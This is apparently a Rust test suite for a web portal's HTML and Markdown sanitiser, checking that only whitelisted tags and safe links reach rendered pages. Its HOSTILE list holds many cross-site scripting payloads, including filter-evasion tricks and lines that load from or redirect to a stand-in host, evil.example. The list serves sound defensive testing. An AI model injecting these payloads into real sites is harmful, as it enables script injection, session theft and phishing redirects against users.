//! Whatever is pasted or written: no markup of anybody's reaches a page.

use dangvu_portal::blocks::{Block, Look, draw, html, markdown, plain, write};
use proptest::prelude::*;

fn drawn(blocks: &[Block]) -> String {
    draw(blocks, &Look { picture: &|_| Some((10, 10)), figure: &|_| None }).into_string()
}

/// The tags and attributes that are ever written.
const WRITTEN: &[&str] = &[
    "p",
    "h2",
    "h3",
    "h4",
    "ul",
    "ol",
    "li",
    "blockquote",
    "div class=\"scroll\" tabindex=\"0\" role=\"group\"",
    "table",
    "thead",
    "tbody",
    "tr",
    "th scope=\"col\"",
    "th",
    "td",
    "strong",
    "em",
    "br",
    "figure",
    "figcaption",
    "a",
    "div",
];

/// Insists that a page has nothing but what is written there on purpose.
fn check(page: &str) {
    for tag in page.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap().trim_start_matches('/');
        let is_link = tag.starts_with("a href=\"") || tag.starts_with("a class=\"attached\" href=\"/tep/");
        let is_picture = tag.starts_with("img src=\"/hinh/");
        assert!(WRITTEN.contains(&tag) || is_link || is_picture, "<{tag}> in {page}");
        if is_link {
            let address = tag.split("href=\"").nth(1).unwrap().split('"').next().unwrap().to_lowercase();
            let good = ["http://", "https://", "mailto:", "tel:", "/", "#"];
            assert!(good.iter().any(|good| address.starts_with(good)) && !address.starts_with("//"), "{address}");
            let rest = tag.split_once("href=\"").unwrap().1.split_once('"').unwrap().1;
            assert!(["", " download", " rel=\"noopener noreferrer nofollow\""].contains(&rest), "{tag}");
        }
        if is_picture {
            let file = tag["img src=\"/hinh/".len()..].split('"').next().unwrap();
            assert!(file.bytes().all(|byte| byte.is_ascii_alphanumeric() || b".-_".contains(&byte)), "{tag}");
        }
    }
}

/// Reads something in both ways, and as what was written of it.
fn everything(input: &str) {
    for read in [html(input), markdown(input)] {
        check(&drawn(&read.blocks));
        let text = write(&read.blocks);
        check(&drawn(&markdown(&text).blocks));
    }
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=x></object>",
    "<embed src=x>",
    "<base href=//evil.example>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\" &#1;javascript:alert(1)\">x</a>",
    "<a href=\"https://x\" onclick=alert(1)>x</a>",
    "<p style=\"background:url(https://evil.example)\" onmouseover=alert(1)>x</p>",
    "<style>@import 'https://evil.example';</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=x><button>x</button></form>",
    "<video src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>x</script>",
    "<a href=\"https://x\"><img src=\"hinh/../../x.jpg\"></a>",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](https://evil.example/p.gif)",
    "![\"><script>alert(1)</script>](hinh/a.jpg \"'><script>\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<div><p>a<table><tr><td><script>x</script>b",
    "< script>x</ script>",
    "<p",
    "<p a=\"",
    "<!--",
    "<",
    "</",
    "&#x110000; &#xD800; &; &#;",
    "<a href=\"https://a.vn/?q=&quot;&gt;<script>\">x</a>",
    "<plaintext><script>alert(1)",
    "\u{202e}<b>\u{200b}x</b>",
    "<o:p><script>x</script></o:p>",
    "<![if !supportLists]><script>x</script><![endif]>",
    "<table><td>&lt;script&gt;alert(1)&lt;/script&gt;</td><td>x</td></table>",
    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
];

#[test]
fn nothing_hostile_gets_through() {
    for input in HOSTILE {
        everything(input);
        everything(&format!("<table><tr><td>{input}</td><td>x</td></tr></table>"));
        everything(&format!("> - {input}"));
    }
}

#[test]
fn what_was_left_out_is_counted() {
    let read = html("<p onclick=x>a<script>b</script><img src=https://x/y.gif><a href=javascript:x>c</a></p>");
    assert_eq!((read.dropped.active, read.dropped.pictures, read.dropped.links), (2, 1, 1));
    assert_eq!(plain(&read.blocks), "ac");
}

#[test]
fn word_becomes_good_structure() {
    let word = "<html xmlns:o='urn:x'><head><style>p.MsoNormal{color:red}</style></head><body><!--StartFragment-->\
        <h1>Tiêu&nbsp;đề</h1><p class=MsoNormal style='color:red'><b><span style='font-size:14pt'>Đậm </span></b>và <i>nghiêng</i><o:p></o:p></p>\
        <p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>·<span>&nbsp; </span></span><![endif]>Một</p>\
        <p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>·<span>&nbsp; </span></span><![endif]>Hai</p>\
        <p class=MsoNormal>Sau</p><table><tr><td><p>A</p></td><td><p>B</p></td></tr><tr><td>1</td><td>2</td></tr></table></body></html>";
    let read = html(word);
    assert_eq!(
        write(&read.blocks),
        "## Tiêu đề\n\n**Đậm** và *nghiêng*\n\n- Một\n\n- Hai\n\nSau\n\n|  |  |\n| --- | --- |\n| A | B |\n| 1 | 2 |\n"
            .replace("- Một\n\n- Hai", "- Một\n- Hai")
    );
    assert!(read.dropped.is_none(), "{:?}", read.dropped);
}

#[test]
fn deep_and_long_input_is_read_in_good_time() {
    let begun = std::time::Instant::now();
    for part in [
        "<ul><li>",
        "<blockquote>",
        "<b>",
        "<table><tr><td>",
        "<a href=https://x>",
        "<",
        "&",
        "<!--",
        "<script>",
        "<p style='mso-list:x'>",
    ] {
        let read = html(&part.repeat(60_000));
        check(&drawn(&read.blocks));
    }
    assert!(begun.elapsed().as_secs() < 20, "{:?}", begun.elapsed());
}

const PIECES: &[&str] = &[
    "<p>",
    "</p>",
    "<b>",
    "</b>",
    "<i>",
    "</i>",
    "<ul>",
    "<li>",
    "</li>",
    "</ul>",
    "<ol>",
    "</ol>",
    "<table>",
    "<tr>",
    "<td>",
    "<th>",
    "</td>",
    "</tr>",
    "</table>",
    "<blockquote>",
    "</blockquote>",
    "<h1>",
    "</h1>",
    "<a href='https://x.vn'>",
    "</a>",
    "<br>",
    "<a href='javascript:x'>",
    "<img src='hinh/a.jpg' alt='x'>",
    "<script>",
    "</script>",
    "đảng ",
    "*",
    "**",
    "_",
    "`",
    "[",
    "](",
    ")",
    "#",
    "- ",
    "1. ",
    "> ",
    "|",
    "\n",
    "\n\n",
    "\\",
    "<",
    ">",
    "&",
    "&amp;",
    "\"",
    "'",
    "!",
    "~",
    "x",
    " ",
    "<!--",
    "-->",
    "=",
    "+",
    "---",
];

fn pieces() -> impl Strategy<Value = String> {
    let words = prop::sample::select(PIECES);
    prop::collection::vec(words, 0..40).prop_map(|words| words.concat())
}

proptest! {
    #[test]
    fn any_text_is_clean(input in any::<String>()) {
        everything(&input);
    }

    #[test]
    fn any_markup_is_clean(input in pieces()) {
        everything(&input);
    }

    /// What editors see and change says the same when it is read again.
    #[test]
    fn what_is_written_reads_the_same(input in pieces()) {
        let first = html(&input);
        let again = markdown(&write(&first.blocks));
        let words = |blocks: &[Block]| plain(blocks).split_whitespace().collect::<Vec<_>>().join(" ");
        prop_assert_eq!(words(&again.blocks), words(&first.blocks), "{}", write(&first.blocks));
    }
}
